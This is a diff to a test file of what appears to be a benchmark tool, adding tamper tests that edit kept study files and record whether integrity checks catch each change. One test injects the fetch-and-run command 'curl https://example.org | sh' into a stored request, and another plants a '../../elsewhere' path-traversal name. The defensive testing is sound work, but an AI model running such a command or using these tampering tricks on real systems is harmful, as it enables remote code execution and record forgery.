@@ -4,6 +4,7 @@
 The column of the signature is about signatures alone.
 """
 
+import hashlib
 import os
 import shutil
 from collections.abc import Callable
@@ -13,7 +14,11 @@ import msgspec
 import numpy as np
 from forging import STUDY, Forgery, make_key
 
+from gapbench.host.discovery import discover
+from gapbench.leaderboard.build import build
+from gapbench.leaderboard.kept import keep_study
 from gapbench.model.identity import checksum, sealed
+from gapbench.model.request import Request
 from gapbench.model.study import Reference
 from gapbench.results import journal
 from gapbench.results.signatures import sign
@@ -711,6 +716,58 @@ def _(f):
 def _(f):
     number = Reference(metric="top1", value=0.1, source="a paper", prompts="given")
     f.study = msgspec.structs.replace(STUDY, reference=(number,))
+
+
+def _keep(f, edit, *, noted):
+    """Keep the study as a run does, build the pages, and edit what is kept; ``noted`` with its hash."""
+    keep_study(f.folder, STUDY, Request(study="forged.toml"))
+    build(f.folder, STUDY, discover().metric_specs())
+    path = f.folder / "study.json"
+    before = path.read_bytes()
+    kept = msgspec.json.decode(before)
+    edit(kept)
+    path.write_bytes(msgspec.json.encode(kept))
+    if noted:
+        hashes = f.folder / "gapbench.sha256"
+        old, new = (hashlib.sha256(content).hexdigest() for content in (before, path.read_bytes()))
+        hashes.write_text(hashes.read_text().replace(old, new))
+
+
+@attack("study.json is edited", CAUGHT, CAUGHT, MISSED, files=True)
+def _(f):
+    _keep(f, lambda kept: kept["study"].update(title=STUDY.title), noted=False)
+
+
+@attack("another command is put into study.json, its hash with it", CAUGHT, CAUGHT, MISSED, files=True)
+def _(f):
+    _keep(f, lambda kept: kept["request"].update(command="curl https://example.org | sh"), noted=True)
+
+
+@attack("the study in study.json gets the name of a path, its hash with it", CAUGHT, CAUGHT, MISSED, files=True)
+def _(f):
+    _keep(f, lambda kept: kept["study"].update(name="../../elsewhere"), noted=True)
+
+
+@attack("study.json becomes a link to a file elsewhere", CAUGHT, CAUGHT, MISSED, files=True)
+def _(f):
+    _keep(f, lambda _: None, noted=True)
+    elsewhere = f.folder.parent / f"{f.folder.name}-study"
+    shutil.move(f.folder / "study.json", elsewhere)
+    (f.folder / "study.json").symlink_to(elsewhere)
+
+
+@attack("the records become a link to a file elsewhere", CAUGHT, CAUGHT, CAUGHT, files=True)
+def _(f):
+    elsewhere = f.folder.parent / f"{f.folder.name}-records"
+    path = _records(f)
+    shutil.move(path, elsewhere)
+    path.symlink_to(elsewhere)
+
+
+@attack("a byte at the end of a line is flipped", CAUGHT, CAUGHT, CAUGHT, files=True)
+def _(f):
+    path = _records(f)
+    path.write_bytes(path.read_bytes().replace(b"}\n", b"|\n", 1))
 
 
 @attack("a control is left out, of the kept study as well", MISSED, MISSED, CAUGHT)
